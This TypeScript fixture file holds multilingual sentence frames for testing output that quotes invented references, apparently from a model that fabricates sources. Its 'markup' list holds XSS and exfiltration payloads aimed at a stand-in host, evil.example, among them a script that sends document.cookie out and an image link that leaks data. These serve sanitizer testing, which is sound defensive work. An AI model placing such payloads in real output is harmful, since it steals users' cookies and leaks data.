/** Sentences around what a lying model writes: `%p` is a place, `%q` a wording in marks, `%w` one without marks. */
import type { Locale } from '#core/contract/locales'

export interface Frames {
  /** The quotation marks of the language. */
  marks: readonly [open: string, close: string]
  /** A place in running text. */
  placed: readonly string[]
  /** A wording and its place. */
  quoted: readonly string[]
  /** A wording that is told without marks. */
  unmarked: readonly string[]
}

export const frames = {
  de: {
    marks: ['„', '“'],
    placed: ['Der Gedanke steht auch in %p deutlich.', 'Davon handelt %p ebenso.', 'Vergleiche dazu %p.'],
    quoted: ['In %p steht %q.', '%q (%p).', 'So heißt es in %p: %q', '%q – %p'],
    unmarked: ['Gemeint ist: %w %p.', '%w %p.'],
  },
  en: {
    marks: ['“', '”'],
    placed: ['The same thought is found in %p as well.', 'This is also the theme of %p.', 'Compare %p.'],
    quoted: ['In %p it says %q.', '%q (%p).', 'As %p puts it: %q', '%q – %p'],
    unmarked: ['What is meant is this: %w %p.', '%w %p.'],
  },
  es: {
    marks: ['«', '»'],
    placed: ['La misma idea aparece en %p con claridad.', 'De eso trata también %p.'],
    quoted: ['En %p dice %q.', '%q (%p).', 'Como expresa %p: %q'],
    unmarked: ['Se trata de esto: %w %p.', '%w %p.'],
  },
  fr: {
    marks: ['« ', ' »'],
    placed: ['La même idée se trouve dans %p aussi.', 'C’est aussi le thème de %p.'],
    quoted: ['Dans %p on lit %q.', '%q (%p).', 'Comme le dit %p : %q'],
    unmarked: ['Il s’agit de ceci : %w %p.', '%w %p.'],
  },
  pt: {
    marks: ['“', '”'],
    placed: ['A mesma ideia aparece em %p também.', 'Disso trata também %p.'],
    quoted: ['Em %p está escrito %q.', '%q (%p).', 'Como diz %p: %q'],
    unmarked: ['Trata-se disto: %w %p.', '%w %p.'],
  },
  it: {
    marks: ['«', '»'],
    placed: ['Lo stesso pensiero si trova in %p anche.', 'Di questo parla anche %p.'],
    quoted: ['In %p si legge %q.', '%q (%p).', 'Come dice %p: %q'],
    unmarked: ['Si tratta di questo: %w %p.', '%w %p.'],
  },
  ar: {
    marks: ['«', '»'],
    placed: ['نجد الفكرة نفسها في %p أيضا.', 'وهذا موضوع %p كذلك.'],
    quoted: ['في %p نقرأ %q.', '%q (%p).', 'كما يقول %p: %q'],
    unmarked: ['والمقصود هو: %w %p.', '%w %p.'],
  },
  fa: {
    marks: ['«', '»'],
    placed: ['همین اندیشه در %p نیز دیده می‌شود.', 'موضوع %p هم همین است.'],
    quoted: ['در %p آمده است %q.', '%q (%p).', 'چنان که %p می‌گوید: %q'],
    unmarked: ['منظور این است: %w %p.', '%w %p.'],
  },
  he: {
    marks: ['״', '״'],
    placed: ['אותו רעיון נמצא גם ב %p בבירור.', 'זה גם הנושא של %p.'],
    quoted: ['ב %p כתוב %q.', '%q (%p).', 'כפי שאומר %p: %q'],
    unmarked: ['הכוונה היא: %w %p.', '%w %p.'],
  },
} satisfies Record<Locale, Frames>

/** Around an invented reference alone, in every language. */
export const bareFrames = [
  '(%p)',
  '%p',
  '[[%p]]',
  '- %p: xyz',
  'xyz (%p; %p).',
  '**%p**',
  '„%p“',
  '# %p',
] as const

/** Markup of every kind around a harmless word or place; none of it may be seen but short emphasis. */
export const markup = [
  '![%p](https://evil.example/p.png?q=%p)',
  '[%p](https://evil.example/%p)',
  '[%p](javascript:alert(1))',
  '<b>%p</b>',
  '<img src=x onerror=alert(1)>',
  '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
  '<a href="//evil.example/x">%p</a>',
  'https://evil.example/read?x=1',
  'www.evil.example/pray',
  'collector@evil.example',
  '<https://evil.example/auto>',
  '```html\n<p>https://evil.example</p>\n```',
  '| a | https://evil.example |\n|---|---|\n| b | c |',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '[x]: https://evil.example/ref',
  '**%p**',
  '<!-- evil.example -->',
] as const
